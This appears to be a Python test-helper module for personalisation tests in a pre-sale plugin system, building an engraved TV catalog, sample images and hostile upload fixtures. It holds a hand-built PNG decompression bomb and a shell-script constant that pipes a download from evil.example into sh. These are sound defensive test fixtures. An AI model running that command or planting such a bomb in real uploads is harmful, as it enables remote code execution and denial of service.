"""Shared helpers for the personalisation tests: a TV with an engraving, images, hostile files."""

from __future__ import annotations

import functools
import io
import zlib
from pathlib import Path

from handoff_support import CINEMA_55 as CINEMA_55

from c2m_core import Category, PluginMeta, hookimpl, load_catalog

REPO = Path(__file__).resolve().parents[1]
TV_CATALOG = REPO / "plugins" / "tv" / "c2m_tv" / "catalog.toml"
ENGRAVING = {
    "id": "engraving",
    "kind": "text",
    "title": {"en": "Name plate", "zh": "铭牌刻字"},
    "max_length": 12,
    "alphabet": ["latin", "digits", "space", "cjk"],
    "characters": ".-&",
}


def engraved_tv_catalog():
    """The TV catalog (with its start-up photo) plus an engraved name plate, as ``tv-plate``."""
    data = load_catalog(TV_CATALOG).to_dict()
    data["category"]["id"] = "tv-plate"
    data["personalisation"].append(dict(ENGRAVING))
    from c2m_core.catalog import Catalog

    return Catalog.from_dict(data)


class PlatePlugin:
    """Registers ``tv-plate``."""

    c2m_plugin = PluginMeta(name="tv-plate", version="1.0.0", core=">=0.1")

    @hookimpl
    def register_categories(self):
        return [Category(engraved_tv_catalog())]


def image(width=640, height=360, fmt="PNG", color=(200, 30, 30)) -> bytes:
    """A real image of ``width`` x ``height`` pixels, encoded by Pillow."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (width, height), color).save(out, format=fmt)
    return out.getvalue()


@functools.lru_cache(maxsize=8)
def png_bomb(width=30_000, height=30_000) -> bytes:
    """A tiny PNG whose header declares ``width`` x ``height`` pixels of zeros (a few KB that
    would inflate to gigabytes), written by hand with valid chunks and checksums."""
    import struct

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit grey
    row = b"\x00" * (1 + (width + 7) // 8)
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )


SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


def place_personalised(target, files_dir, slug, variant_id, key, units, start):
    """Place the same personalised pledge as every other worker; return what it got back."""
    from c2m_core import C2M

    with C2M(target, plugins=[PlatePlugin()], load_entry_points=False, files_dir=files_dir) as app:
        start.wait()
        pledge = app.presale.place(slug, variant_id, "ann", len(units), key, personalisation=units)
        return pledge.id, [dict(unit) for unit in pledge.personalisation]
